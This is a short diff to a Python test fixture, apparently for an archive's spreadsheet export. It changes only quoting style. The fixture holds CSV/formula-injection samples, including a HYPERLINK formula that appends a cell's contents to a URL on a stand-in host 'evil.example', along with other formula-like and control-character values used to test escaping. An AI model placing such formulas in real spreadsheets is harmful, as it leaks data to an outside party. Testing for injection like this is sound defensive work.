@@ -12,7 +12,7 @@ from support.small_archive import ENGLISH, GONE, SOURCE, add_versions, build
 from archive.files.home import Home
 
 BEYOND = "𠮷" * 20_000  # two units of UTF-16 each
-FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"看\")"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"看")'
 STRANGE = replace(
     GONE,
     headline=FORMULA,
@@ -20,7 +20,7 @@ STRANGE = replace(
     kicker="<r>不是<b>标记</b></r>",
     standfirst=" \t@SUM(1) 前有空白 ",
     identity="6",
-    authors=("-1+1", "甲, \"乙\""),
+    authors=("-1+1", '甲, "乙"'),
     paragraphs=("_x0041_ 与 \x07 和 \x1f，还有 \x85 与 \u2028。", "=1+1", BEYOND, "\ufffe 与 \uffff"),
 )
 EDITED = replace(STRANGE, headline="-" + FORMULA, paragraphs=("第一段。", *STRANGE.paragraphs[1:]))
